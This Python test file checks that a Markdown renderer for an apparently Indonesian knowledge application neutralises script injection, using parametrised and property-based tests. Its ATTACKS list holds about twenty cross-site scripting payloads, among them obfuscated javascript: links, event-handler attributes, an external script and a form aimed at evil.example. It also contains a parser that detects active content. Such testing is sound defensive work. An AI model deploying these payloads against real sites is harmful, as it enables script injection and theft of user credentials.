"""Markdown is shown safely: every way of smuggling script into a page is neutralised."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lumbung.knowledge.rendering import render_markdown
from lumbung.knowledge.templatetags.knowledge import markdown_escape

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](  javascript:alert(1))",
    "[klik](jav&#x09;ascript:alert(1))",
    '<a href="javascript&colon;alert(1)">klik</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![gambar](javascript:alert(1))",
    '<a href="https://ok.example" onclick="alert(1)" style="color:red">ok</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name="sandi"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!-- <script>alert(1)</script> -->",
    '<div onmouseover="alert(1)">arahkan</div>',
    "Paragraf {: onclick=alert(1) }",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
]
ALLOWED_SCHEMES = ("http://", "https://", "mailto:", "#", "/")


class ActiveContent(HTMLParser):
    """Collects whatever in the HTML could run or load something."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in {
            "script",
            "iframe",
            "object",
            "embed",
            "style",
            "form",
            "input",
            "meta",
            "svg",
            "math",
            "img",
            "link",
        }:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcdoc", "action", "formaction"}:
                self.found.append(name)
            # An empty href (raw `<a href>` in the text) points at the page itself: nothing runs.
            target = (value or "").strip().lower()
            if name == "href" and target and not target.startswith(ALLOWED_SCHEMES):
                self.found.append(f"href={value}")


def active_content(html: str) -> list[str]:
    parser = ActiveContent()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("attack", ATTACKS)
def test_injections_are_neutralised(attack):
    html = render_markdown(f"Teks biasa.\n\n{attack}\n\nTeks penutup.")
    assert active_content(html) == [], html
    assert "Teks biasa." in html and "Teks penutup." in html


def test_ordinary_markdown_survives():
    html = render_markdown(
        "## Eviden\n\n**Tebal**, *miring*, `kode` dan [tautan](https://bskdn.kemendagri.go.id).\n\n"
        "1. satu\n2. dua\n\n> kutipan\n\n| No | Nama |\n|--:|:--|\n| 1 | Sikesal |\n\nIstilah\n: arti\n"
    )
    for piece in (
        "<h2>Eviden</h2>", "<strong>Tebal</strong>", "<em>miring</em>", "<code>kode</code>", "<ol>", "<blockquote>",
        '<td align="right">1</td>', "<dt>Istilah</dt>", "<dd>arti</dd>",
        '<a href="https://bskdn.kemendagri.go.id" rel="noopener noreferrer nofollow">tautan</a>',
    ):  # fmt: skip
        assert piece in html


def test_mail_links_stay():
    assert 'href="mailto:brida@lampungbaratkab.go.id"' in render_markdown("[surel](mailto:brida@lampungbaratkab.go.id)")


TOKENS = list("<>\"'=/:;&#()[]{}!*_ `\n") + [
    "script",
    "javascript",
    "onerror",
    "iframe",
    "img",
    "a href",
    "svg",
    "onload",
    "data",
]


@settings(max_examples=300)
@given(st.lists(st.sampled_from(TOKENS), max_size=40).map("".join))
def test_no_text_however_strange_yields_active_content(text):
    html = render_markdown(text)
    assert active_content(html) == [], html


@given(st.text(max_size=60))
def test_escaped_text_reads_back_as_the_same_words(text):
    rendered = render_markdown(f"| {markdown_escape(text)} |\n|---|\n| x |")
    plain = unescape(re.sub(r"<[^>]+>", "", rendered))
    for word in text.split():
        if word.isprintable() and word.strip("\\`*_[]|#") == word:
            assert word in plain
